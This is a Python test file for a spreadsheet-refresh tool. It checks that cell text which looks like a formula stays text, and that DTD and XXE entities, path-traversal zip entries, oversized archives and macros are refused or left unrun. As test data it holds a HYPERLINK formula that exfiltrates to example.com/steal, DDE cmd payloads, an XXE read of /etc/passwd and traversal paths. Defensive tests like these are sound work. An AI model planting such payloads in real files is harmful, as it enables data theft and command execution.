"""The package-level refresh: nothing let in (text stays text, no DTD, no odd zip) and the parts it may touch."""

from __future__ import annotations

import io
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from lxml import etree

from ofsted_tracker.workbook.errors import UnusableInput
from ofsted_tracker.workbook.jobs import refresh
from ofsted_tracker.workbook.store import package
from ofsted_tracker.workbook.store.base import Changes
from ofsted_tracker.workbook.store.file import FileStore
from ofsted_tracker.workbook.store.package import (
    PARSER,
    calc_chain_without,
    check_zip,
    clean_text,
    parse_part,
    recalc_on_open,
    sheet_parts,
    sheet_xml,
)
from tests.report import office

CORPUS = Path(__file__).parent / "corpus"
FIXTURES = Path(__file__).parent / "fixtures"
NS = package.NS
FORMULA_LOOKING = [
    '=HYPERLINK("http://example.com/steal?d="&A1,"Click for the report")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


@pytest.fixture
def clean(tmp_path: Path) -> Path:
    """A private copy of the corpus' clean tracker (no findings, as at 31/10/2016)."""
    target = tmp_path / "clean-tracker.xlsx"
    shutil.copyfile(CORPUS / target.name, target)
    return target


def zip_of(parts: dict[str, bytes]) -> zipfile.ZipFile:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return zipfile.ZipFile(io.BytesIO(buffer.getvalue()))


def rewrite(path: Path, change) -> None:
    with zipfile.ZipFile(path) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    parts = change(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)


# --- text written into cells --------------------------------------------------------------------------------


def test_clean_text_removes_what_xml_forbids_and_keeps_excel_escapes_literal():
    assert clean_text("a\x00b\x07c\x1fd\ufffe") == "abcd"
    assert clean_text("tab\tnew\nline\r") == "tab\tnew\nline\r"
    assert clean_text("_x0041_ and _X0041_") == "_x005F_x0041_ and _X0041_"
    assert len(clean_text("é" * 40000)) == 32767
    assert clean_text("emoji 🚸 and RTL مرحبا") == "emoji 🚸 and RTL مرحبا"


@pytest.mark.parametrize("text", FORMULA_LOOKING)
def test_formula_looking_text_is_written_as_an_inline_string(text):
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="A1"/><sheetData/></worksheet>'
    )
    root = etree.fromstring(b"".join(sheet_xml(sheet, [[text, 7, 2.5, True, float("inf"), None]])))
    cells = root.findall(f".//{{{NS}}}c")
    assert [c.get("t") for c in cells] == ["inlineStr", None, None, "inlineStr", "inlineStr"]
    assert cells[0].findtext(f"{{{NS}}}is/{{{NS}}}t") == text
    assert root.find(f".//{{{NS}}}f") is None
    assert [c.findtext(f"{{{NS}}}v") for c in cells[1:3]] == ["7", "2.5"]
    assert root.find(f"{{{NS}}}dimension").get("ref") == "A1:E1"


def test_formula_looking_text_typed_by_officers_stays_text_after_a_refresh(clean, tmp_path):
    """The text lands in the Slippage (Action) and Checks (Action, message) sheets: never a formula."""
    wb = openpyxl.load_workbook(clean)
    ws = wb["Actions"]
    for row, text in enumerate(FORMULA_LOOKING[:4], start=2):
        ws.cell(row, 3).value = text  # Action
        ws.cell(row, 3).data_type = "s"
    ws["A7"].value, ws["A7"].data_type = (
        FORMULA_LOOKING[1],
        "s",
    )  # an Action ID: quoted in Checks and Slippage
    ws["D6"].value, ws["D6"].data_type = (
        FORMULA_LOOKING[0],
        "s",
    )  # an owner: quoted in a Checks message
    wb.save(clean)
    summary = refresh(clean)
    assert any(s.action_id == FORMULA_LOOKING[1] for s in summary.slippage)
    with zipfile.ZipFile(clean) as pkg:
        computed = sheet_parts(pkg)
        xml = {name: pkg.read(computed[name]) for name in ("Dashboard", "Slippage", "Checks")}
    for name, data in xml.items():
        root = etree.fromstring(data)
        assert root.find(f".//{{{NS}}}f") is None, name
        for cell in root.iter(f"{{{NS}}}c"):
            text = cell.findtext(f"{{{NS}}}is/{{{NS}}}t")
            if text is not None:
                assert cell.get("t") == "inlineStr"
    reopened = openpyxl.load_workbook(clean)
    found = {}
    for name in ("Slippage", "Checks"):
        for row in reopened[name].iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in FORMULA_LOOKING:
                    found[cell.value] = cell.data_type
    assert set(found) == set(FORMULA_LOOKING[:4])
    assert set(found.values()) == {"s"}
    # LibreOffice shows the text, not a computed value or an error
    out = tmp_path / "csv"
    office.convert([clean], office.CSV_EACH_SHEET, out)
    slippage = next(out.glob("*-Slippage.csv")).read_text(encoding="utf-8")
    for text in FORMULA_LOOKING[:4]:
        assert text.replace('"', '""') in slippage


def test_excel_escape_lookalikes_read_back_as_typed(clean):
    """Excel reads _x0041_ inside cell XML as "A"; the refresh escapes it, so it reads back as typed."""
    FileStore(clean).write(Changes(grids={"Checks": [["_x0041_ is not A", "ok"]]}))
    from python_calamine import CalamineWorkbook

    assert (
        CalamineWorkbook.from_path(str(clean)).get_sheet_by_name("Checks").to_python()[0][0]
        == "_x0041_ is not A"
    )


# --- what the parser and the zip guard refuse -----------------------------------------------------------------


def test_the_parser_expands_no_entity_and_reads_no_file():
    xml = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "yyyy">]><r>&x;&y;</r>'
    root = etree.fromstring(xml, PARSER)
    assert "root:" not in etree.tostring(root).decode()
    assert root.text is None  # neither entity was replaced by text


def test_a_part_with_a_dtd_is_refused():
    with pytest.raises(UnusableInput, match="declares a DTD"):
        parse_part(
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>', "xl/x.xml", "t.xlsx"
        )
    with pytest.raises(UnusableInput, match="not well-formed"):
        parse_part(b"<worksheet><sheetData>", "xl/worksheets/sheet1.xml", "t.xlsx")


@pytest.mark.parametrize(
    "name",
    [
        "../../outside.txt",
        "/etc/cron.d/x",
        "xl\\..\\..\\x.xml",
        "C:/Windows/x.dll",
        "xl/../../x.xml",
    ],
)
def test_part_names_that_leave_the_folder_are_refused(name):
    with pytest.raises(UnusableInput, match="points outside"):
        check_zip(zip_of({"xl/workbook.xml": b"<w/>", name: b"x"}), "t.xlsx")


def test_a_part_listed_twice_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out, pytest.warns(UserWarning):
        out.writestr("xl/workbook.xml", b"<a/>")
        out.writestr("xl/workbook.xml", b"<b/>")
    with pytest.raises(UnusableInput, match="twice"):
        check_zip(zipfile.ZipFile(io.BytesIO(buffer.getvalue())), "t.xlsx")


def test_too_many_parts_and_too_big_unpacked_are_refused(monkeypatch):
    many = zip_of({f"xl/media/image{i}.png": b"x" for i in range(12)})
    monkeypatch.setattr(package, "MAX_PARTS", 10)
    with pytest.raises(UnusableInput, match="12 parts"):
        check_zip(many, "t.xlsx")
    monkeypatch.setattr(package, "MAX_PARTS", 10_000)
    monkeypatch.setattr(package, "MAX_UNPACKED", 2**20)
    big = zip_of({"xl/a.bin": bytes(range(256)) * 3000, "xl/b.bin": bytes(range(256)) * 3000})
    with pytest.raises(UnusableInput, match="would unpack to"):
        check_zip(big, "t.xlsx")


def test_a_sheet_pointing_outside_the_package_is_refused(clean):
    rewrite(
        clean,
        lambda parts: (
            parts
            | {
                "xl/_rels/workbook.xml.rels": parts["xl/_rels/workbook.xml.rels"].replace(
                    b'Target="/xl/worksheets/sheet1.xml"', b'Target="../../../outside/sheet1.xml"'
                )
            }
        ),
    )
    with zipfile.ZipFile(clean) as pkg, pytest.raises(UnusableInput, match="points outside"):
        sheet_parts(pkg, clean.name)


# --- the parts a refresh may touch besides the computed sheets -------------------------------------------------


def chain(*entries: str) -> bytes:
    return (f'<calcChain xmlns="{NS}">' + "".join(entries) + "</calcChain>").encode()


def test_calc_chain_entries_on_computed_sheets_go_and_the_rest_name_their_sheet():
    data = chain(
        '<c r="A1" i="1"/>',
        '<c r="A2"/>',
        '<c r="L2" i="2"/>',
        '<c r="L3"/>',
        '<c r="B5" i="3" l="1"/>',
    )
    kept = etree.fromstring(calc_chain_without(data, {"1", "3"}, "t.xlsx"))
    assert [(c.get("r"), c.get("i")) for c in kept] == [("L2", "2"), ("L3", "2")]
    assert (
        calc_chain_without(data, {"9"}, "t.xlsx") is data
    )  # nothing on those sheets: the bytes as they were
    assert calc_chain_without(chain('<c r="A1" i="1"/>', '<c r="A2"/>'), {"1"}, "t.xlsx") is None


@pytest.mark.parametrize(
    "before, after",
    [
        (
            b'<workbook><calcPr calcId="191029"/></workbook>',
            b'<workbook><calcPr calcId="191029" fullCalcOnLoad="1"/></workbook>',
        ),
        (
            b'<x:workbook><x:calcPr calcId="1" fullCalcOnLoad="0"></x:calcPr></x:workbook>',
            b'<x:workbook><x:calcPr calcId="1" fullCalcOnLoad="1"></x:calcPr></x:workbook>',
        ),
        (
            b'<workbook><calcPr fullCalcOnLoad="1"/></workbook>',
            b'<workbook><calcPr fullCalcOnLoad="1"/></workbook>',
        ),
    ],
)
def test_recalc_on_open_changes_one_attribute_and_nothing_else(before, after):
    assert recalc_on_open(before, "t.xlsx") == after


def test_recalc_on_open_adds_calc_pr_in_its_place_when_missing():
    xml = f'<workbook xmlns="{NS}"><sheets/><definedNames/><extLst/></workbook>'.encode()
    root = etree.fromstring(recalc_on_open(xml, "t.xlsx"))
    assert [etree.QName(e).localname for e in root] == [
        "sheets",
        "definedNames",
        "calcPr",
        "extLst",
    ]


def test_a_calc_chain_left_empty_is_dropped_with_its_relationship_and_type(clean):
    chain_xml = chain('<c r="B5" i="1"/>', '<c r="C5"/>')
    rewrite(
        clean,
        lambda parts: (
            parts
            | {
                "xl/calcChain.xml": chain_xml,
                "xl/_rels/workbook.xml.rels": parts["xl/_rels/workbook.xml.rels"].replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdC" Type="http://schemas.openxmlformats.org/officeDocument/'
                    b'2006/relationships/calcChain" Target="calcChain.xml"/></Relationships>',
                ),
                "[Content_Types].xml": parts["[Content_Types].xml"].replace(
                    b"</Types>",
                    b'<Override PartName="/xl/calcChain.xml" ContentType="application/vnd.openxmlformats-'
                    b'officedocument.spreadsheetml.calcChain+xml"/></Types>',
                ),
            }
        ),
    )
    refresh(clean)
    with zipfile.ZipFile(clean) as pkg:
        assert "xl/calcChain.xml" not in pkg.namelist()
        assert b"calcChain" not in pkg.read("xl/_rels/workbook.xml.rels")
        assert b"calcChain" not in pkg.read("[Content_Types].xml")
    assert openpyxl.load_workbook(clean)["Checks"]["A1"].value == "Checks"


def test_a_computed_sheet_that_is_a_chart_sheet_is_refused_and_nothing_changes(clean):
    with zipfile.ZipFile(clean) as pkg:
        part = sheet_parts(pkg)["Checks"]
    chart_sheet = (
        b'<chartsheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetViews><sheetView workbookViewId="0"/></sheetViews></chartsheet>'
    )
    rewrite(clean, lambda parts: parts | {part: chart_sheet})
    before = clean.read_bytes()
    with pytest.raises(UnusableInput, match="not a worksheet"):
        refresh(clean)
    assert clean.read_bytes() == before


def test_sheet_names_are_matched_as_excel_does_ignoring_case(clean):
    rewrite(
        clean,
        lambda parts: (
            parts
            | {
                "xl/workbook.xml": parts["xl/workbook.xml"].replace(
                    b'name="Checks"', b'name="CHECKS"'
                )
            }
        ),
    )
    FileStore(clean).write(Changes(grids={"Checks": [["Refreshed"]]}))
    assert openpyxl.load_workbook(clean)["CHECKS"]["A1"].value == "Refreshed"


# --- macros are never run ------------------------------------------------------------------------------------


def test_refreshing_a_macro_workbook_starts_no_program_and_loads_no_office_automation(tmp_path):
    """The refresh only reads and writes the zip: no process is started, no Excel/COM/xlwings module is loaded."""
    copy = tmp_path / "officer-macros.xlsm"
    shutil.copyfile(FIXTURES / copy.name, copy)
    script = f"""
import os, subprocess, sys
def refuse(*args, **kwargs):
    raise AssertionError("the refresh tried to start a program: %r" % (args,))
subprocess.Popen = refuse
os.system = refuse
os.execv = os.execve = os.spawnv = refuse
from ofsted_tracker.workbook.jobs import refresh
refresh({str(copy)!r})
loaded = sorted(m for m in sys.modules if m.split(".")[0] in ("xlwings", "win32com", "pythoncom", "appscript", "uno"))
print("loaded:", loaded)
"""
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "loaded: []"
    with zipfile.ZipFile(copy) as after, zipfile.ZipFile(FIXTURES / copy.name) as before:
        assert after.read("xl/vbaProject.bin") == before.read("xl/vbaProject.bin")


# --- which sheet is read ---------------------------------------------------------------------------------------


def test_find_sheets_matches_as_headers_do_and_refuses_two_sheets_with_one_name():
    from ofsted_tracker.workbook.plan.schema import find_sheets

    assert find_sheets(
        ["Dashboard", " actions ", "Leads"], ["Actions", "Leads", "Periods"], "plan.xlsx"
    ) == {"Actions": " actions ", "Leads": "Leads"}
    for copy in (
        "Actions ",
        "ACTIONS",
        "  actions",
        "actions\u00a0",
    ):  # a no-break space, pasted from the web
        with pytest.raises(UnusableInput) as refused:
            find_sheets(["Actions", "Leads", copy], ["Actions"], "plan.xlsx")
        assert f"'Actions' and {copy!r}" in str(refused.value) and "plan.xlsx" in str(refused.value)
    assert (
        find_sheets(["Notes", "notes "], ["Actions"], "plan.xlsx") == {}
    )  # officers' own sheets: their business


def test_refresh_refuses_two_computed_sheets_with_one_name_and_changes_nothing(clean):
    def add_copy(parts):
        workbook = parts["xl/workbook.xml"].replace(
            b"</sheets>",
            b'<sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
            b'name="checks " sheetId="99" r:id="rId3"/></sheets>',
        )
        return parts | {"xl/workbook.xml": workbook}

    rewrite(clean, add_copy)
    before = clean.read_bytes()
    with pytest.raises(UnusableInput, match="'Checks' and 'checks '"):
        FileStore(clean).write(Changes(grids={"Checks": [["Refreshed"]]}))
    assert clean.read_bytes() == before


def test_a_strict_open_xml_workbook_is_named_with_the_way_to_fix_it(clean):
    rewrite(
        clean,
        lambda parts: (
            parts
            | {
                "xl/workbook.xml": parts["xl/workbook.xml"].replace(
                    NS.encode(), b"http://purl.oclc.org/ooxml/spreadsheetml/main"
                )
            }
        ),
    )
    with zipfile.ZipFile(clean) as source:
        with pytest.raises(UnusableInput, match="Strict Open XML Spreadsheet") as refused:
            package.sheet_parts(source, clean.name)
    assert "Excel Workbook (*.xlsx)" in str(refused.value)


@pytest.mark.parametrize(
    ("attribute", "expected"),
    [
        (b"", False),
        (b' date1904="1"', True),
        (b' date1904="true"', True),
        (b' date1904="0"', False),
    ],
)
def test_the_1904_calendar_is_read_from_workbook_pr(clean, attribute, expected):
    rewrite(
        clean,
        lambda parts: (
            parts
            | {
                "xl/workbook.xml": parts["xl/workbook.xml"].replace(
                    b"<workbookPr/>", b"<workbookPr" + attribute + b"/>"
                )
            }
        ),
    )
    with zipfile.ZipFile(clean) as source:
        assert package.date_1904(source, clean.name) is expected


def test_a_date_written_into_a_1904_workbook_reads_back_as_that_date(tmp_path: Path) -> None:
    """A workbook saved on the 1904 calendar counts days from 01/01/1904: a returned completion date written into it
    must be that date there, not one four years and a day later (the 1900 count)."""
    from datetime import date

    from ofsted_tracker.workbook.plan import schema
    from ofsted_tracker.workbook.store.reader import load

    tracker = tmp_path / "t.xlsx"
    shutil.copyfile(CORPUS / "date-1904.xlsx", tracker)
    plan = load(tracker).plan
    action = plan.actions[1]
    column = schema.column_number(plan.columns["Actions"]["completed_on"])
    FileStore(tracker).write(Changes(cells={"Actions": {(action.row, column): date(2016, 10, 1)}}))
    assert load(tracker).plan.actions[1].completed_on == date(2016, 10, 1)
